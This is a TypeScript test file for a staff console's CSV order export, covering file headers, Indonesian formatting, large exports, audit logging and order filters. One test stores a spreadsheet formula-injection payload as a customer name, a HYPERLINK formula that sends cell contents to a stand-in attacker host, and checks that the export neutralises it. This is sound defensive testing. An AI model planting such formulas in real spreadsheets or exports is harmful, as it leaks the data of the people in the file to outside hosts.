import { type CallShape, consoleHeader, staff } from '@nobi/contract';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startConsole } from '../../../testing/console.ts';
import { newFamily, newSubscriber, startPayment } from '../../../testing/people.ts';
import type { Product } from '../../../testing/product.ts';
import { wibDayOf } from '../../../time/wib-day.rules.ts';
import { readCsv } from './exports.testing.ts';

let product: Product;
let token: string;
beforeAll(async () => {
  ({ product, token } = await startConsole());
});
afterAll(() => product.stop());

const send = (shape: CallShape, more = {}) => product.send(shape, { token, ...more });
const today = wibDayOf(new Date());
const days = { from: today, to: today };

const orderIdOf = async (email: string) => {
  const [row] = await product.db.query<{ id: string }>(
    'select o.id from orders o join account a on a.id = o.account_id where a.email = $1',
    [email],
  );
  return String(row?.id);
};

/** The file's own bytes: reading a reply as text would drop the mark at its head. */
const download = async (query: Record<string, string>, language = 'en') => {
  const response = await fetch(
    `${product.url}/api/staff/exports/orders/?${new URLSearchParams(query)}`,
    {
      headers: { cookie: `nobi-staff=${token}`, [consoleHeader]: '1', 'accept-language': language },
    },
  );
  return { response, text: Buffer.from(await response.arrayBuffer()).toString('utf8') };
};

test('orders open in a spreadsheet, and no family’s name is worked out there', async () => {
  const { email } = await newSubscriber(product, 'premium');
  const name = '=HYPERLINK("https://jahat.example/?"&A1;"Ibu, klik")';
  await product.db.query('update account set display_name = $2 where email = $1', [email, name]);
  const id = await orderIdOf(email);

  const { response, text } = await download({ ...days, search: id });

  expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  expect(response.headers.get('content-disposition')).toBe(
    `attachment; filename="nobi-orders-${today}-${today}.csv"`,
  );
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [head, row, ...more] = readCsv(text, ',');
  expect(head?.slice(0, 2)).toEqual(['order', 'opened (WIB)']);
  expect([row?.[0], row?.[4], row?.[7], row?.[9]]).toEqual([id, '120000', 'paid', `'${name}`]);
  expect(more).toEqual([]);
});

test('an Indonesian file parts by semicolons, under Indonesian heads', async () => {
  await newSubscriber(product, 'regular');

  const { text } = await download(days, 'id');

  const rows = readCsv(text, ';');
  expect(rows[0]?.[0]).toBe('pesanan');
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([10]));
});

test('a file longer than a page has every order once, the oldest first', async () => {
  const { email } = await newFamily(product);
  await product.db.query(
    `insert into orders (id, account_id, plan, amount, gateway, state, expires_at, created_at)
     select 'NB-lama-' || n, a.id, 'regular', 15000, 'xendit', 'expired', now(),
       timestamptz '2025-03-01 10:00+07' + interval '1 second' * (n / 3)
     from account a, generate_series(1, 2500) n where a.email = $1`,
    [email],
  );

  const { text } = await download({ from: '2025-03-01', to: '2025-03-01', gateway: 'xendit' });

  const rows = readCsv(text, ',').slice(1);
  expect(new Set(rows.map(([id]) => id)).size).toBe(2500);
  expect(rows).toHaveLength(2500);
  const openedDays = rows.map((row) => String(row[1]));
  expect(openedDays).toEqual(openedDays.toSorted());
});

test('the log tells what left, and a range that is too long leaves nothing', async () => {
  const long = await send(staff.exportOrders, { query: { from: '2024-01-01', to: today } });
  const turned = await send(staff.exportOrders, { query: { from: today, to: '2025-01-01' } });
  const strange = await send(staff.exportOrders, { query: { from: '2025-02-30', to: today } });
  await download({ ...days, state: 'paid' });

  expect([long.status, turned.status, strange.status]).toEqual([400, 400, 400]);
  expect(long.body).toMatchObject({ code: 'staff_range_long' });
  const log = await product.db.query(
    `select after from staff_audit where did = 'exportOrders' order by id desc limit 1`,
  );
  expect(log).toEqual([{ after: { ...days, state: 'paid' } }]);
});

test('orders are narrowed by day, gateway, amount, e-mail and order id', async () => {
  const family = await newSubscriber(product, 'premium');
  const { email } = family;
  const id = await orderIdOf(email);
  const { orderId: other } = await startPayment(
    product,
    (await newFamily(product)).token,
    'regular',
  );
  const idsOf = async (query: Record<string, string>) => {
    const { body } = await send(staff.orders, { query: { per_page: '100', ...query } });
    return Object(body).rows.map((row: { id: string }) => row.id);
  };

  expect(await idsOf({ search: email.toUpperCase() })).toEqual([id]);
  expect(await idsOf({ search: id, from: today, to: today })).toEqual([id]);
  expect(await idsOf({ search: id, to: '2025-01-01' })).toEqual([]);
  expect(await idsOf({ search: id, amount: '15000' })).toEqual([]);
  expect(await idsOf({ search: id, gateway: 'xendit' })).toEqual([]);
  expect(await idsOf({ amount: '120000' })).not.toContain(other);
  expect(await idsOf({ gateway: 'midtrans-sandbox', from: today })).toEqual(
    expect.arrayContaining([id, other]),
  );
});
